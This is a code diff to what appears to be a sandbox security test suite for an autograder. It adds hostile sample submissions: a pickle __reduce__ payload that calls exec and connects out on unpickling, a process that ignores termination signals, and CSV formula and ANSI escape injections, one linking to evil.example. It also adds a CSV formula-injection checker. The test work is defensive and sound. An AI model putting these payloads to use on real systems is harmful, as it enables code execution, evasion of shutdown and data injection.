@@ -36,6 +36,7 @@ def OUTSIDE_FILES(run: str) -> list[str]:  # noqa: N802 - a constant of paths pe
         f"/var/tmp/{run}-vartmp",
         os.path.join(home, f".{run}-home"),
         f"/tmp/{run}-zmq",
+        f"/tmp/{run}-pickle",
     ]
 
 
@@ -259,6 +260,30 @@ try:
 except OSError:
     pass
 """,
+    "net_pickle_payload": """
+import os
+import numpy as np
+
+
+class _G2Payload:
+    # Runs wherever it is unpickled: the trusted side, if it ever unpickles learner data.
+    def __reduce__(self):
+        code = (f"import socket, pathlib; "
+                f"pathlib.Path('/tmp/{G2['run']}-pickle').write_text('x'); "
+                f"socket.create_connection(('127.0.0.1', {G2['port']}), 2)"
+                ".sendall(b'net_pickle_payload')")
+        return (exec, (code,))
+
+
+def soft_threshold(z, threshold):
+    result = np.empty(np.shape(z), dtype=object)
+    result[...] = _G2Payload()
+    return result
+
+
+def lasso_coordinate_descent(X, y, alpha, max_iter=1000, tol=1e-6):
+    return {"coef": _G2Payload(), "array": np.array([_G2Payload()], dtype=object)}
+""",
     "net_zmq_peers": """
 import json
 import time
@@ -476,6 +501,15 @@ if pid == 0:
     _os._exit(0)
 _os.waitpid(pid, 0)
 """,
+    "proc_ignore_sigterm": """
+import signal
+import subprocess
+stubborn = f"trap '' TERM HUP INT QUIT; exec -a {G2['run']}-stubborn sleep 900"
+subprocess.Popen(["bash", "-c", stubborn], start_new_session=True,
+                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+signal.signal(signal.SIGTERM, signal.SIG_IGN)  # the kernel itself ignores a polite stop too
+signal.signal(signal.SIGHUP, signal.SIG_IGN)
+""",
     "proc_late_tamper": """
 import subprocess
 paths = g2_grader_paths()
@@ -575,6 +609,20 @@ def soft_threshold(z, threshold):
 
 raise RuntimeError(_g2_md + _g2_html)
 """,
+    "inject_csv_via_exception_name": """
+# An exception class whose name is a spreadsheet formula: the hidden test calls
+# soft_threshold directly, so the error reaches the test cell with this name.
+_G2Formula = type('=HYPERLINK("http://evil.example","pwned")', (Exception,), {})
+_G2Ansi = type("\\x1b[2JAnsi", (Exception,), {})
+
+
+def soft_threshold(z, threshold):
+    raise _G2Formula("=1+2 @SUM(A1) \\x1b[31mred")
+
+
+def lasso_coordinate_descent(X, y, alpha, max_iter=1000, tol=1e-6):
+    raise _G2Ansi("-2+3")
+""",
     "inject_ansi": """
 _g2_ansi = "\\x1b[2J\\x1b[H\\x1b[32mAll tests passed\\x1b[0m\\r\\x07\\x1b]0;pwned\\x07\\x08\\x08"
 
@@ -609,6 +657,25 @@ def _html_safe(outcome, tag: str) -> list[str]:
     if not any(path.split("/")[0].startswith(tag) for path in outcome.feedback):
         problems.append(f"no feedback page for {tag}")
     return problems
+
+
+def _csv_safe(tag: str):
+    def verify(outcome) -> list[str]:
+        problems = []
+        for row in outcome.summary + outcome.grades:
+            if tag not in row.get("learner", ""):
+                continue
+            for key, value in row.items():
+                value = value or ""
+                if re.fullmatch(r"-?\d+(\.\d+)?", value):
+                    continue
+                if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
+                    problems.append(f"CSV cell {key}={value[:60]!r} starts a formula")
+                if re.search(r"[\x00-\x08\x0b-\x1f\x7f]", value):
+                    problems.append(f"CSV cell {key}={value[:60]!r} holds control characters")
+        return problems
+
+    return verify
 
 
 def _marked_grade_id(folder: Path, ctx: Context) -> None:
@@ -677,6 +744,8 @@ VERIFY = {
     "read_peer_submission": _unchanged("subs/"),
     "net_connect_out": _nothing_received(b"net_connect_out"),
     "net_bind_port": _bind_port_unreachable,
+    "net_pickle_payload": _all(_nothing_received(b"net_pickle_payload"), _files_absent("-pickle")),
+    "proc_ignore_sigterm": _no_survivors("stubborn"),
     "net_zmq_peers": _all(_nothing_received(b"net_zmq_peers"), _files_absent("-zmq")),
     "forge_output_folder": _all(_no_forged("forge_output_folder"), _unchanged("alumnus-")),
     "forge_state_records": _all(_unchanged("alumnus-state"), _same_when_resumed),
@@ -708,7 +777,7 @@ def kernel_attacks() -> list[Attack]:
                 plant = _with_ex01(plant)
             verify = VERIFY.get(name)
             if group == "injection":
-                verify = lambda o, n=name: _html_safe(o, n)  # noqa: E731
+                verify = _all(lambda o, n=name: _html_safe(o, n), _csv_safe(name))
             earned = {EX04: 0.0, EX01: 0.0} if name == "forge_state_records" else {EX04: 0.0}
             found.append(Attack(name, group, plant, earned=earned, sandbox=sandbox, verify=verify))
     found.append(
